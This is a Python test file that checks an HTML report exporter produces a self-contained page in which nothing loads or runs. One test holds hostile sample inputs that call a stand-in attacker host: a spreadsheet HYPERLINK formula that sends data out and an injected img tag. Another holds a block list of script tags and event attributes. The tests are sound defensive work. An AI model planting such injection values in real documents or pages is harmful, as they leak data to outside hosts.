"""A report in HTML: whole, self-contained, and nothing in it runs."""

from __future__ import annotations

import re
from html import unescape
from html.parser import HTMLParser

from ui.exports.page import report_body, report_html

ATTACKER = "attacker.example"


class Seen(HTMLParser):
    """Tags and attributes of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += attrs


def test_every_fact_is_in_the_file_to_the_last_digit(report):
    page = unescape(report_html(report))

    for answer in report.answers:
        for fact in answer.facts:
            assert repr(fact.value) in page
            assert fact.formula in page


def test_every_sentence_is_in_the_file(report):
    text = unescape(re.sub(r"<[^>]+>", "", report_html(report)))

    said = [each.text for section in report.sections for each in section.said]
    assert said
    assert all(sentence in text for sentence in said)


def test_nothing_is_loaded_and_nothing_runs(hostile_report):
    seen = Seen(report_html(hostile_report))

    assert not seen.tags & {"script", "img", "link", "iframe", "object", "form", "b"}
    assert not [name for name, _ in seen.attributes if name in {"src", "onerror", "onclick"}]
    assert all(value.startswith("#") for name, value in seen.attributes if name == "href")
    policy = dict(seen.attributes)["http-equiv"]
    assert policy == "Content-Security-Policy"


def test_names_and_reviews_that_attack_are_shown_as_text(hostile_report):
    page = report_html(hostile_report)

    assert "=HYPERLINK(&#34;http://attacker.example/?d=1&#34;,&#34;&lt;b&gt;Café" in page
    assert f"&lt;img src=http://{ATTACKER}/i.png" in page


def test_every_quote_stands_once_under_its_own_id(report):
    page = str(report_body(report))

    anchors = re.findall(r'<li id="([^"]+)"', page)
    assert len(set(anchors)) == len(anchors) == sum(len(a.citations) for a in report.answers)
    assert "The strap broke." in page
